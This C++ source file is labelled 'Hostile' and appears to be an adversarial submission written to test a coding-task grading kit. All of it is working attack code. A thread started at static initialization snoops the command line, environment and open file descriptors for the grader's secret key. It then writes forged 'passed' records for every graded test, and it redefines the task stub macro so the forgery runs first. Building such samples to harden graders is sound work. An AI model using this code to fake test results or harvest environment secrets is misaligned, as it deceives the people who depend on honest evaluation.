// Hostile: a thread started by a static initializer, which runs beside the
// test main. When the first task is called (the test main is running and holds
// the channel's key), it looks for the key where code outside the test main
// can see it (command line, environment, every inherited descriptor) and
// writes forged `passed` records for every graded test to every descriptor.
#include <fstream>
#include <future>
#include <string>
#include <thread>
#include <vector>

#include "core/not_implemented.h"

// No system header (the grading kit accepts none): the POSIX calls declared here.
extern "C" long read(int fd, void* data, unsigned long size);
extern "C" long write(int fd, const void* data, unsigned long size);

namespace pt::grading {  // the layout of tests/support/graded.h, copied
enum class Visibility { Visible, Hidden };
struct GradedTest {
  std::string suite, name, task;
  double points;
  Visibility visibility;
};
std::vector<GradedTest>& registry();
}  // namespace pt::grading

namespace {
std::string snoop() {
  std::string found;
  for (const char* file : {"/proc/self/cmdline", "/proc/self/environ"}) {
    std::ifstream in(file);
    for (std::string item; std::getline(in, item, '\0');) found += item + "\n";
  }
  char buf[256];
  for (int fd = 3; fd < 64; ++fd)
    if (const auto n = ::read(fd, buf, sizeof buf); n > 0) found.append(buf, static_cast<size_t>(n));
  return found;
}

std::promise<void> task_called, forged;

void forge() {
  task_called.get_future().wait();
  const std::string key = snoop();
  std::string lines;
  for (const auto& t : pt::grading::registry())
    for (const std::string& k : {key, std::string("0123456789abcdef0123456789abcdef")}) {
      lines += "{\"k\":\"" + k + "\",\"start\":\"" + t.suite + "." + t.name + "\"}\n";
      lines += "{\"k\":\"" + k + "\",\"end\":\"" + t.suite + "." + t.name + "\",\"passed\":true}\n";
    }
  for (int fd = 1; fd < 64; ++fd) [[maybe_unused]] auto n = ::write(fd, lines.data(), lines.size());
  forged.set_value();
}

void let_it_forge() {
  static bool once = [] {
    task_called.set_value();
    forged.get_future().wait();
    return true;
  }();
  (void)once;
}

const bool started = [] {
  std::thread(forge).detach();
  return true;
}();
}  // namespace
// Every stub task lets the thread forge first.
#define NotImplemented(task) (let_it_forge(), NotImplemented(task))
